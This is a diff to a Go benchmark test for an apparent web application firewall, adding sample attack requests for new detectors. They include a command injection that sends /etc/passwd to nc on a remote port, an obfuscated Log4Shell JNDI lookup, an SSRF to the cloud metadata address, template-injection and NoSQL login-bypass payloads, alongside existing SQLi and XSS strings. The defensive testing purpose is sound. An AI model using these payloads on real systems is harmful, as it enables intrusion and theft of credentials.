@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"net/url"
 	"strings"
 	"testing"
 )
@@ -51,6 +52,13 @@ func BenchmarkInspect(b *testing.B) {
 		"attack_get": {Path: "/api/products/search", Headers: hdr,
 			RawQuery: "q=%27%20UNION%20SELECT%20password%20FROM%20users--&x=%3Cscript%3Ealert(1)%3C/script%3E"},
 		"deep_json_64k": {Path: "/api", ContentType: "application/json", Body: []byte(strings.Repeat(`{"a":`, 65536/5))},
+		// The detectors added for CRS PL1 breadth, each on its attack.
+		"attack_cmdi":   {Path: "/api/ping", Headers: hdr, RawQuery: "host=" + url.QueryEscape("127.0.0.1;cat${IFS}/e?c/pa*wd|nc 10.0.0.1 4444")},
+		"attack_jndi":   {Path: "/", Headers: map[string]string{"user-agent": "${${lower:j}ndi:${lower:l}dap://x.example/a}"}},
+		"attack_ssrf":   {Path: "/api/fetch", Headers: hdr, RawQuery: "url=" + url.QueryEscape("http://169.254.169.254/latest/meta-data/")},
+		"attack_ssti":   {Path: "/api/render", Headers: hdr, ContentType: "application/json", Body: []byte(`{"tpl":"{{''.__class__.__mro__[1].__subclasses__()}}"}`)},
+		"attack_nosqli": {Path: "/login", Headers: hdr, RawQuery: "user=admin&password%5B%24ne%5D=x"},
+		"xml_soap":      {Path: "/soap", Headers: hdr, ContentType: "text/xml", Body: []byte(`<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice xmlns="http://example.com/stock"><Item>Apples &amp; pears</Item><Note style="color: red">Deliver (if possible) before 10:00; ring twice.</Note></GetPrice></soap:Body></soap:Envelope>`)},
 	}
 	v, err := New(DefaultConfig())
 	if err != nil {
